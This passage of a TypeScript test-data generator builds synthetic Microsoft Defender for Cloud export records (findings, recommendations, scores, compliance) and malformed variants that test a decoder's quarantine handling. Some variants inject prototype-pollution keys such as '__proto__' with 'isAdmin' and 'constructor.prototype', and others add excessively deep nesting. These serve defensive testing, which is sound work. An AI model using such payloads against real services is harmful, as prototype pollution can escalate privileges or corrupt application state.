    resourceProvider: resource.provider,
    resourceIdEncoded: encodeURIComponent(resourceId).toLowerCase(),
    title: entry.title,
    status,
    cause,
    statusDescription,
    changed: timeOf(context, index),
    firstEvaluated: timeOf(context, index, -86_400_000 * (1 + random.int(90))),
    policy: policyOf(entry.key),
    description: entry.description,
    remediation: entry.remediation,
    category: entry.category,
    severity: entry.severity,
    impact: random.pick(['Low', 'Moderate', 'High']),
    effort: random.pick(['Low', 'Moderate', 'High']),
    threats: JSON.stringify(entry.threats),
    user1: legacy ? randomGuid(random) : '',
    user2: legacy ? randomGuid(random) : '',
  };
  const template = legacy ? legacyRecommendationTemplate() : recommendationTemplate();
  return { body: render(template, values), kind: 'recommendation', id, status, severity: entry.severity };
}

// ---------------------------------------------------------------------------------- findings

const FINDING_STATUSES: readonly (readonly [string, number])[] = [
  ['Unhealthy', 80],
  ['Healthy', 15],
  ['NotApplicable', 5],
];

/**
 * Adds the export envelope's values to `values`. (Not `{...envelope, ...}`: V8 makes an object literal of
 * many keys after a spread about a hundred times slower to build, which would dominate generation time.)
 */
function withFindingEnvelope<T extends Record<string, string>>(context: Context, status: string, values: T): T & Record<string, string> {
  return Object.assign(values, {
    action: status === 'Healthy' && context.random.chance(0.5) ? 'Delete' : 'Insert',
    snapshot: String(context.random.chance(0.25)),
    tenant: context.tenant,
  });
}

/** additionalData of a container image finding (current scanner, Microsoft Defender Vulnerability Management). */
function imageAdditionalData(assessedResourceType: string, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    assessedResourceType,
    vulnerabilityDetails: {
      cveId: '@@cve@@',
      severity: '@@vulnerabilitySeverity@@',
      exploitabilityAssessment: { exploitStepsPublished: false, exploitStepsVerified: false, isInExploitKit: false, exploitUris: [], types: ['Remote'] },
      lastModifiedDate: '@@modified@@',
      publishedDate: '@@published@@',
      workarounds: [],
      references: [
        { title: '@@cve@@', link: 'https://nvd.nist.gov/vuln/detail/@@cve@@' },
        { title: 'oval:com.microsoft.cbl-mariner:def:@@oval@@', link: 'https://raw.githubusercontent.com/microsoft/CBL-MarinerVulnerabilityData/main/cbl-mariner-2.0-oval.xml' },
      ],
      weaknesses: { cwe: [{ id: 'CWE-@@cwe@@' }] },
      cvss: { '2.0': null, '3.0': { cvssVectorString: 'CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', base: '@@#cvss@@' } },
      cpe: { language: '*', softwareEdition: '*', version: '*', targetHardware: '*', targetSoftware: '@@language@@', vendor: '@@packageName@@', edition: '*', product: '@@packageName@@', update: '*', other: '*', part: 'Applications', uri: 'cpe:2.3:a:@@packageName@@:@@packageName@@:*:*:*:*:*:*:*:*' },
    },
    artifactDetails: {
      lastPushedToRegistryUTC: '@@pushed@@',
      repositoryName: '@@repository@@',
      registryHost: '@@registry@@',
      artifactType: 'ContainerImage',
      mediaType: 'application/vnd.docker.distribution.manifest.v2+json',
      digest: 'sha256:@@digest@@',
      tags: ['@@tag@@'],
    },
    softwareDetails: {
      category: 'Language',
      language: '@@language@@',
      fixedVersion: '@@fixedVersion@@',
      version: '@@version@@',
      vendor: '@@packageName@@',
      packageName: '@@packageName@@',
      osDetails: { osPlatform: 'linux', osVersion: 'ubuntu_linux_22.04' },
      fixStatus: '@@fixStatus@@',
      evidence: [],
    },
    cvssV30Score: '@@#cvss@@',
    ...extra,
  };
}

function imageProperties(assessedResourceType: string, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: '@@cve@@',
    displayName: '@@cve@@',
    description: '@@description@@',
    status: { code: '@@statusCode@@', severity: '@@statusSeverity@@', cause: '', description: 'The resource is unhealthy' },
    remediation: 'Upgrade @@packageName@@ to @@fixedVersion@@ or later and rebuild the image.',
    timeGenerated: '@@generated@@',
    resourceDetails: { source: '@@source@@', id: '@@resourceId@@' },
    additionalData: imageAdditionalData(assessedResourceType, extra),
  };
}

function acrFindingShape(): Record<string, unknown> {
  return {
    subAssessmentEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
    securityEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
    tenantId: '@@tenant@@',
    type: 'Microsoft.Security/assessments/subAssessments',
    id: '@@id@@',
    name: '@@name@@',
    properties: imageProperties('AzureContainerRegistryVulnerability'),
  };
}

const acrFindingTemplate = lazyTemplate(acrFindingShape);
const pascalFindingTemplate = lazyTemplate(() => pascalCase(acrFindingShape(), 'SubAssessment'));

/** Resource Graph output (`securityresources`): lower-cased type, ARM extras, and no export envelope. */
const ecrFindingTemplate = lazyTemplate(() => ({
  id: '@@id@@',
  name: '@@name@@',
  type: 'microsoft.security/assessments/subassessments',
  tenantId: '@@tenant@@',
  kind: '',
  location: 'global',
  resourceGroup: '@@rg@@',
  subscriptionId: '@@sub@@',
  managedBy: '',
  sku: null,
  plan: null,
  properties: imageProperties('AwsContainerRegistryVulnerability', {
    artifactDetails: {
      repositoryName: '@@repository@@',
      registryHost: '@@registry@@',
      artifactType: 'ContainerImage',
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      digest: 'sha256:@@digest@@',
      tags: ['@@tag@@'],
      region: 'eu-west-1',
    },
  }),
  tags: null,
  identity: null,
  zones: null,
  extendedLocation: null,
  assessmentKey: '@@assessmentKey@@',
  timeGenerated: '@@generated@@',
}));

const runtimeFindingTemplate = lazyTemplate(() => ({
  subAssessmentEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
  securityEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
  tenantId: '@@tenant@@',
  type: 'Microsoft.Security/assessments/subAssessments',
  id: '@@id@@',
  name: '@@name@@',
  properties: imageProperties('AzureRuntimeImageVulnerability', {
    kubernetesDetails: { clusterName: '@@cluster@@', clusterResourceId: '@@resourceId@@', namespace: '@@namespace@@', controllerKind: 'Deployment', controllerName: '@@workload@@' },
    kubernetesContext: { clusters: [{ resourceId: '@@resourceId@@', namespaces: [{ namespace: '@@namespace@@', controllers: [{ controllerKind: 'Deployment', controllerName: '@@workload@@', pods: [{ podName: '@@workload@@-@@podSuffix@@', containers: [{ name: 'app' }] }] }] }] }] },
  }),
}));

const serverFindingTemplate = lazyTemplate(() => ({
  subAssessmentEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
  securityEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
  tenantId: '@@tenant@@',
  type: 'Microsoft.Security/assessments/subAssessments',
  id: '@@id@@',
  name: '@@name@@',
  properties: {
    id: '@@cve@@',
    displayName: '@@title@@',
    description: '@@description@@',
    status: { code: '@@statusCode@@', severity: '@@statusSeverity@@', cause: '', description: 'The resource is unhealthy' },
    remediation: 'Update @@packageName@@ to @@fixedVersion@@.',
    timeGenerated: '@@generated@@',
    resourceDetails: { source: 'Azure', id: '@@resourceId@@' },
    additionalData: {
      assessedResourceType: 'ServerVulnerabilityTvm',
      cve: [{ title: '@@cve@@', link: 'https://nvd.nist.gov/vuln/detail/@@cve@@', cvssScore: '@@#cvss@@', cvssVersion: '3.1' }],
      software: { vendor: '@@packageName@@', name: '@@packageName@@', version: '@@version@@', fixedVersion: '@@fixedVersion@@' },
      firstSeenAt: '@@firstSeen@@',
      lastSeenAt: '@@generated@@',
      patchable: true,
      exploitable: false,
      publishedTime: '@@firstSeen@@',
    },
  },
}));

const sqlFindingTemplate = lazyTemplate(() => ({
  subAssessmentEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
  securityEventDataEnrichment: { action: '@@action@@', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@' },
  tenantId: '@@tenant@@',
  id: '@@id@@',
  name: '@@name@@',
  type: 'Microsoft.Security/assessments/subAssessments',
  properties: {
    id: '@@rule@@',
    displayName: '@@title@@',
    status: { code: '@@statusCode@@', severity: '@@statusSeverity@@', cause: 'Unknown' },
    remediation:
      'Evaluate each of the database-level firewall rules. Remove any rules that grant unnecessary access and set the rest as a baseline. Deviations from the baseline will be identified and brought to your attention in subsequent scans.',
    impact:
      'Firewall rules should be strictly configured to allow access only to client computers that have a valid need to connect to the database. Any superfluous entries in the firewall may pose a threat by allowing an unauthorized source access to your database.',
    category: 'SurfaceAreaReduction',
    description:
      'The Azure SQL Database-level firewall helps protect your data by preventing all access to your database until you specify which IP addresses have permission. Database-level firewall rules grant access to the specific database based on the originating IP address of each request.',
    timeGenerated: '@@generated@@',
    resourceDetails: { source: 'Azure', id: '@@databaseId@@' },
    additionalData: {
      assessedResourceType: 'SqlServerVulnerability',
      type: 'AzureDatabase',
      query: 'SELECT name\n    ,start_ip_address\n    ,end_ip_address\nFROM sys.database_firewall_rules',
      benchmarks: [],
    },
  },
}));

function imageFinding(context: Context, index: number, flavour: 'acr' | 'pascal' | 'ecr' | 'runtime'): BuiltRecord {
  const { random } = context;
  const cve = random.pick(CVES);
  const vulnerabilitySeverity = weightedValue(random, VULNERABILITY_SEVERITIES);
  // status.severity knows Low, Medium and High only: a Critical vulnerability is High there.
  const statusSeverity = vulnerabilitySeverity === 'Critical' ? 'High' : vulnerabilitySeverity;
  const status = weightedValue(random, FINDING_STATUSES);
  const sub = random.pick(context.subscriptions);
  const name = uniqueGuid(context, index);
  const repository = random.pick(REPOSITORIES);
  const digest = random.hex(64);
  const values: Record<string, string> = withFindingEnvelope(context, status, {
    name,
    sub,
    cve: cve.cve,
    description: cve.description,
    statusCode: status,
    statusSeverity,
    vulnerabilitySeverity,
    generated: timeOf(context, index),
    modified: timeOf(context, index, -86_400_000 * 3),
    published: timeOf(context, index, -86_400_000 * (30 + random.int(900))),
    pushed: timeOf(context, index, -86_400_000 * (1 + random.int(30))),
    oval: String(10_000 + random.int(90_000)),
    cwe: String(20 + random.int(900)),
    cvss: String(random.pick(CVSS_BY_SEVERITY[vulnerabilitySeverity])),
    language: cve.language || 'none',
    packageName: cve.packageName,
    version: cve.version,
    fixedVersion: cve.fixedVersion,
    fixStatus: cve.fixedVersion ? 'FixAvailable' : 'NoFixAvailable',
    repository,
    digest,
    tag: `${1 + random.int(3)}.${random.int(20)}.${random.int(10)}`,
    source: 'Azure',
  });
  let id: string;
  let template: Template;
  if (flavour === 'runtime') {
    const cluster = clusterOf(context);
    id = `${cluster.resourceId}/providers/Microsoft.Security/assessments/c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5/subAssessments/${name}`;
    Object.assign(values, {
      id,
      resourceId: cluster.resourceId,
      cluster: cluster.cluster,
      namespace: random.pick(NAMESPACES),
      workload: repository.split('/').pop() ?? 'app',
      podSuffix: `${random.hex(9)}-${random.hex(5)}`,
      registry: 'contosoprod.azurecr.io',
    });
    template = runtimeFindingTemplate();
  } else if (flavour === 'ecr') {
    const rg = 'rg-aws-connector';
    const connector = `/subscriptions/${sub}/resourceGroups/${rg}/providers/Microsoft.Security/securityConnectors/aws-prod`;
    id = `${connector}/securityentitydata/aws-ecr-repository-${repository.replace(/\//g, '-')}-eu-west-1/providers/Microsoft.Security/assessments/8a2b5d7e-7f8b-4a6e-9c2e-1a6b3c4d5e6f/subassessments/${name}`;
    Object.assign(values, {
      id,
      rg,
      resourceId: `/repositories/${repository}/images/sha256:${digest}`,
      registry: '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
      assessmentKey: '8a2b5d7e-7f8b-4a6e-9c2e-1a6b3c4d5e6f',
      source: 'Aws',
    });
    template = ecrFindingTemplate();
  } else {
    const registry = uniqueName(context, 'acrprod', index);
    id = `/subscriptions/${sub}/resourceGroups/rg-prod-acr/providers/Microsoft.ContainerRegistry/registries/${registry}/providers/Microsoft.Security/assessments/c0b7cfc6-3172-465a-b378-53c7ff2cc0d5/subAssessments/${name}`;
    Object.assign(values, { id, resourceId: `/repositories/${repository}/images/sha256:${digest}`, registry: `${registry}.azurecr.io` });
    template = flavour === 'pascal' ? pascalFindingTemplate() : acrFindingTemplate();
  }
  return { body: render(template, values), kind: 'finding', id, status, severity: vulnerabilitySeverity };
}

// ---------------------------------------------------------------------------------- scores and compliance

const secureScoreTemplate = lazyTemplate(() => ({
  securityEventDataEnrichment: { action: 'Insert', apiVersion: '2020-01-01', isSnapshot: '@@#snapshot@@', interval: '7.00:00:00' },
  tenantId: '@@tenant@@',
  type: 'Microsoft.Security/secureScores',
  id: '@@id@@',
  name: 'ascScore',
  properties: { displayName: 'ASC score', score: { max: '@@#max@@', current: '@@#current@@', percentage: '@@#percentage@@' }, weight: '@@#weight@@' },
  timeGenerated: '@@generated@@',
}));

const secureScoreControlTemplate = lazyTemplate(() => ({
  securityEventDataEnrichment: { action: 'Insert', apiVersion: '2020-01-01', isSnapshot: '@@#snapshot@@', interval: '7.00:00:00' },
  tenantId: '@@tenant@@',
  type: 'Microsoft.Security/secureScores/secureScoreControls',
  id: '@@id@@',
  name: '@@name@@',
  properties: {
    displayName: '@@displayName@@',
    healthyResourceCount: '@@#healthy@@',
    unhealthyResourceCount: '@@#unhealthy@@',
    notApplicableResourceCount: '@@#notApplicable@@',
    score: { max: '@@#max@@', current: '@@#current@@', percentage: '@@#percentage@@' },
    weight: '@@#weight@@',
  },
  timeGenerated: '@@generated@@',
}));

const complianceTemplate = lazyTemplate(() => ({
  securityEventDataEnrichment: { action: 'Write', apiVersion: '2019-01-01-preview', isSnapshot: '@@#snapshot@@', interval: '00:00:00' },
  id: '@@id@@',
  name: '@@name@@',
  type: 'Microsoft.Security/regulatoryComplianceStandards/regulatoryComplianceControls/regulatoryComplianceAssessments',
  properties: {
    description: '@@description@@',
    state: '@@state@@',
    scope: 'Subscription',
    passedResources: '@@#passed@@',
    failedResources: '@@#failed@@',
    skippedResources: '@@#skipped@@',
    assessmentType: 'AssessmentResult',
    assessmentDetailsLink: 'https://portal.azure.com/#blade/Microsoft_Azure_Security/RecommendationsBlade/assessmentKey/@@key@@/initiativeId/@@standard@@',
  },
  timeGenerated: '@@generated@@',
}));

// ------------------------------------------------------------------------------------------- invalid variants

interface InvalidBody {
  readonly body: string;
  /** Sub-variant, for `variant`. */
  readonly variant: string;
  readonly records?: number;
  readonly kind?: Kind;
}

interface InvalidVariant {
  readonly code: QuarantineCode;
  readonly weight: number;
  make(context: Context, index: number): InvalidBody;
}

function variantNamed(name: string): ValidVariant {
  const variant = VALID_VARIANTS.find((candidate) => candidate.name === name);
  if (variant === undefined) throw new Error(`no valid variant ${name}`);
  return variant;
}

/** A valid Event Hub alert to spoil. */
function alertToSpoil(context: Context, index: number): BuiltRecord {
  return variantNamed(context.random.pick(['alert/k8s-control-plane', 'alert/k8s-node', 'alert/vm'])).make(context, index);
}

/** Replaces the first occurrence of `search`, and insists that there was one (a template change would hide it). */
function spoil(body: string, search: string | RegExp, replacement: string): string {
  const out = body.replace(search, replacement);
  if (out === body) throw new Error(`generateRecords: ${String(search)} not found in the body to spoil`);
  return out;
}

const ACTIVITY_LOG_ADMINISTRATIVE = (context: Context, index: number): Record<string, unknown> => ({
  time: timeOf(context, index),
  resourceId: `/SUBSCRIPTIONS/${(context.subscriptions[0] ?? '').toUpperCase()}/RESOURCEGROUPS/RG-PROD-AKS/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/JUMPBOX`,
  operationName: 'MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE',
  category: 'Administrative',
  resultType: 'Success',
  resultSignature: 'Succeeded.Created',
  durationMs: String(context.random.int(5000)),
  callerIpAddress: `203.0.113.${1 + context.random.int(254)}`,
  correlationId: uniqueGuid(context, index),
  identity: { authorization: { scope: '/subscriptions/x', action: 'Microsoft.Compute/virtualMachines/write' }, claims: { name: 'deployer' } },
  level: 'Information',
  location: 'global',
});

let tooLargeFiller: string | undefined;

/** A base64-looking text, long enough to push a record over the decoder's limit. */
function fillerOverLimit(): string {
  if (tooLargeFiller === undefined) {
    const chunk = 'SGVsbG8sIHRoaXMgaXMgYSBjYXB0dXJlZCBwcm9jZXNzIG1lbW9yeSBkdW1wIGZyYWdtZW50Lg0K'.repeat(16);
    tooLargeFiller = chunk.repeat(Math.ceil((DEFAULT_DECODE_LIMITS.maxRecordBytes + 8 * 1024) / chunk.length));
  }
  return tooLargeFiller;
}

const INVALID_VARIANTS: readonly InvalidVariant[] = [
  {
    code: 'not-json',
    weight: 25,
    make(context, index) {
      const { random } = context;
      const shape = random.int(5);
      if (shape === 0) {
        // Cut short (a producer that lost the end of its buffer): never valid, the object is not closed.
        const body = variantNamed(random.pick(['alert/k8s-node', 'recommendation/insert', 'finding/acr-image'])).make(context, index).body;
        return { body: body.slice(0, 20 + random.int(body.length - 25)), variant: 'truncated' };
      }
      if (shape === 1) return { body: spoil(alertToSpoil(context, index).body, /\}$/, ',}'), variant: 'trailing-comma' };
      if (shape === 2) {
        const one = alertToSpoil(context, index).body;
        return { body: `${one}\n${one}`, variant: 'two-records-concatenated' };
      }
      if (shape === 3) {
        return { body: `${timeOf(context, index)} ERROR [defender-export] failed to serialise SecurityAlert: timeout after 30000 ms`, variant: 'log-line' };
      }
      // The 2019 documentation sample style: single quotes and a comment.
      return { body: "{'VendorName': 'Microsoft', 'AlertType': 'SUSPECT_SVCHOST', // legacy\n 'Severity': 'High'}", variant: 'single-quotes' };
    },
  },
  {
    code: 'not-an-object',
    weight: 15,
    make(context) {
      const { random } = context;
      if (random.chance(0.6)) {
        const length = 1 + random.int(4);
        const numbers = Array.from({ length }, () => random.int(1000));
        return { body: JSON.stringify(numbers), variant: 'array-of-numbers', records: length };
      }
      // No JSON string scalar: the Functions host parses JSON bodies before the pipeline does, and a string
      // would then be decoded again (as not-json). These codes hold for both hosts.
      const body = random.pick(['42', 'null', 'true', '-1.5e3']);
      return { body, variant: 'scalar' };
    },
  },
  {
    code: 'unknown-kind',
    weight: 20,
    make(context, index) {
      const { random } = context;
      const shape = random.int(5);
      if (shape === 0) return { body: JSON.stringify(ACTIVITY_LOG_ADMINISTRATIVE(context, index)), variant: 'activity-log-record' };
      if (shape === 1) {
        const length = 1 + random.int(3);
        const records = Array.from({ length }, (_, k) => ACTIVITY_LOG_ADMINISTRATIVE(context, index + k));
        return { body: JSON.stringify({ records }), variant: 'activity-log-records-wrapper', records: length };
      }
      if (shape === 2) {
        const sub = random.pick(context.subscriptions);
        const pricing = {
          id: `/subscriptions/${sub}/providers/Microsoft.Security/pricings/VirtualMachines`,
          name: 'VirtualMachines',
          type: 'Microsoft.Security/pricings',
          properties: { pricingTier: 'Standard', subPlan: 'P2', freeTrialRemainingTime: 'PT0S', enablementTime: timeOf(context, index) },
        };
        return { body: JSON.stringify(pricing), variant: 'other-arm-type' };
      }
      if (shape === 3) return { body: spoil(alertToSpoil(context, index).body, /"AlertType":"[^"]*",/, ''), variant: 'alert-without-alert-type' };
      const body = variantNamed('recommendation/insert').make(context, index).body;
      return { body: spoil(body, '"type":"Microsoft.Security/assessments"', '"type":7'), variant: 'type-not-a-string' };
    },
  },
  {
    code: 'schema',
    weight: 20,
    make(context, index) {
      const { random } = context;
      const shape = random.int(6);
      if (shape === 0) return { body: spoil(alertToSpoil(context, index).body, /"Severity":"[^"]*"/, '"Severity":3'), variant: 'alert-severity-number', kind: 'alert' };
      if (shape === 1) {
        return { body: spoil(alertToSpoil(context, index).body, /"SystemAlertId":"[^"]*"/, '"SystemAlertId":2517538088322968242'), variant: 'alert-id-number', kind: 'alert' };
      }
      if (shape === 2) {
        const body = variantNamed('recommendation/insert').make(context, index).body;
        return { body: spoil(body, /"status":\{"code":"[^"]*"/, '"status":{"code":2'), variant: 'recommendation-status-number', kind: 'recommendation' };
      }
      if (shape === 3) {
        const record = variantNamed('finding/acr-image').make(context, index);
        return { body: spoil(record.body, `"id":"${record.id}",`, ''), variant: 'finding-without-id', kind: 'finding' };
      }
      if (shape === 4) {
        const body = variantNamed('regulatoryCompliance').make(context, index).body;
        return { body: spoil(body, /"passedResources":(\d+)/, '"passedResources":"$1"'), variant: 'compliance-count-text', kind: 'regulatoryCompliance' };
      }
      const body = variantNamed('secureScoreControl').make(context, index).body;
      return { body: spoil(body, /"healthyResourceCount":(\d+)/, '"healthyResourceCount":"$1"'), variant: 'control-count-text', kind: 'secureScoreControl' };
    },
  },
  {
    code: 'hostile-key',
    weight: 8,
    make(context, index) {
      const { random } = context;
      const shape = random.int(3);
      if (shape === 0) {
        return { body: spoil(alertToSpoil(context, index).body, '"ExtendedProperties":{', '"ExtendedProperties":{"__proto__":{"isAdmin":true},'), variant: '__proto__' };
      }
      if (shape === 1) {
        const body = variantNamed('finding/acr-image').make(context, index).body;
        return { body: spoil(body, '"additionalData":{', '"additionalData":{"constructor":{"prototype":{"polluted":"yes"}},'), variant: 'constructor' };
      }
      return { body: spoil(alertToSpoil(context, index).body, /\}$/, ',"__proto__":{"toString":"boom"}}'), variant: '__proto__-at-root' };
    },
  },
  {
    code: 'too-deep',
    weight: 7,
    make(context, index) {
      const { random } = context;
      const depth = 70 + random.int(130);
      if (random.chance(0.5)) {
        // A process tree: each process names its parent.
        let chain = '{"ProcessId":"0x1","CommandLine":"/sbin/init","Type":"process"}';
        for (let level = 2; level <= depth; level++) chain = `{"ProcessId":"0x${level.toString(16)}","CommandLine":"sh -c ./stage${level}","ParentProcess":${chain},"Type":"process"}`;
        return { body: spoil(alertToSpoil(context, index).body, '"Entities":[', `"Entities":[${chain},`), variant: 'process-tree' };
      }
      return { body: spoil(alertToSpoil(context, index).body, '"ExtendedLinks":null', `"ExtendedLinks":${'['.repeat(depth)}${']'.repeat(depth)}`), variant: 'nested-arrays' };
    },
  },
  {
    code: 'bad-records-wrapper',
    weight: 3,
    make(context, index) {
      const { random } = context;
      if (random.chance(0.5)) return { body: `{"records":${alertToSpoil(context, index).body}}`, variant: 'records-object' };
      return { body: random.pick(['{"records":null}', '{"records":"[]"}']), variant: 'records-scalar' };
    },
  },
  {
    code: 'empty-body',
    weight: 2,
    make(context) {
      return context.random.chance(0.5) ? { body: '[]', variant: 'empty-array' } : { body: '{"records":[]}', variant: 'empty-records' };
    },
  },
  {
    code: 'too-large',
    weight: 3,
    make(context, index) {
      const body = spoil(alertToSpoil(context, index).body, '"ExtendedProperties":{', `"ExtendedProperties":{"Captured memory":"${fillerOverLimit()}",`);
      return { body, variant: 'captured-memory' };
    },
  },
];
